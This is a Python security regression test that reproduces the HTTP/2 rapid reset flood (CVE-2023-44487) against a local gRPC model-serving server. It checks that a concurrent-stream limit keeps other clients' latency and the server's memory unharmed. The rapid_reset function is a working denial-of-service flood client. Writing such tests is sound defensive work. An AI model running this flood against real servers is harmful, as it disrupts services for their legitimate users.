"""HTTP/2 rapid reset (CVE-2023-44487): one connection opens streams with HEADERS and cancels each
at once with RST_STREAM, as fast as it can. Before issue 30 the server sent no GOAWAY, 45 of 80
calls of another client on another connection were CANCELLED, and 80 MB stayed taken.

The server now limits the streams a connection may have open (--grpc-max-concurrent-streams) with
grpc's overload protection on, which counts a reset stream until it is freed: the flood is
refused at its own connection."""

from __future__ import annotations

import socket
import threading
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

from tests.security.conftest import RSS_SLACK_MB, Attack, assert_unharmed

PAIRS = 200_000
SECONDS = 4.0
BATCH = 200
P99_BOUND_MS = 150.0
"""What the bystander's p99 is held to during the flood, instead of 3x its baseline: each reset
stream still costs the server's event loop about 75 us (grpc makes a call of every stream and has
no reset-rate limit that would close the connection), so a flood at the 10,000 pairs/s one Python
client sends here keeps the loop about 80% busy. Measured: 42 ms against about 2.5 ms before."""


@dataclass
class Flood:
    sent: int = 0
    refused: int = 0
    goaway: str | None = None
    error: str | None = None
    events: dict[str, int] = field(default_factory=dict)


def rapid_reset(port: int, pairs: int = PAIRS, seconds: float = SECONDS) -> Flood:
    flood = Flood()
    sock = socket.create_connection(("127.0.0.1", port))
    sock.settimeout(0.0)
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    connection.initiate_connection()
    sock.setblocking(True)
    sock.sendall(connection.data_to_send())
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", f"127.0.0.1:{port}"),
               (":path", "/tensorflow.serving.PredictionService/Predict"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    deadline = time.monotonic() + seconds
    sock.setblocking(False)
    try:
        while flood.sent < pairs and time.monotonic() < deadline and flood.goaway is None:
            for _ in range(BATCH):
                stream = connection.get_next_available_stream_id()
                try:
                    connection.send_headers(stream, headers)
                except h2.exceptions.TooManyStreamsError:
                    break
                connection.reset_stream(stream)
                flood.sent += 1
            data = connection.data_to_send()
            sent = 0
            while sent < len(data) and time.monotonic() < deadline:
                try:
                    sent += sock.send(data[sent:])
                except BlockingIOError:  # the server stopped reading us: that is the throttle
                    _drain(sock, connection, flood)
                    time.sleep(0.001)
            _drain(sock, connection, flood)
    except (ConnectionError, OSError, h2.exceptions.ProtocolError) as exc:
        flood.error = type(exc).__name__
    finally:
        sock.close()
    return flood


def _drain(sock: socket.socket, connection: h2.connection.H2Connection, flood: Flood) -> None:
    while True:
        try:
            data = sock.recv(1 << 16)
        except BlockingIOError:
            return
        if not data:
            raise ConnectionResetError("the server closed the connection")
        for event in connection.receive_data(data):
            name = type(event).__name__
            flood.events[name] = flood.events.get(name, 0) + 1
            if isinstance(event, h2.events.StreamReset):
                flood.refused += 1
            if isinstance(event, h2.events.ConnectionTerminated):
                flood.goaway = str(event.error_code)


def test_a_rapid_reset_flood_does_not_reach_other_connections(attack_server, bystander) -> None:
    server = attack_server
    result: list[Flood] = []
    with Attack(server, bystander) as attack:
        thread = threading.Thread(target=lambda: result.append(rapid_reset(server.port)))
        thread.start()
        thread.join(SECONDS + 10)
    (flood,) = result
    print(f"rapid reset: {flood.sent} HEADERS+RST_STREAM pairs in {attack.ended - attack.started:.1f} s; "
          f"server resets {flood.refused}, GOAWAY {flood.goaway}, error {flood.error}, events {flood.events}")
    assert flood.sent >= 10_000, "the flood did not flood"
    verdict = assert_unharmed(attack, p99_factor=float("inf"))
    assert verdict.p99_ms <= P99_BOUND_MS, verdict
    assert attack.memory_returned() <= RSS_SLACK_MB
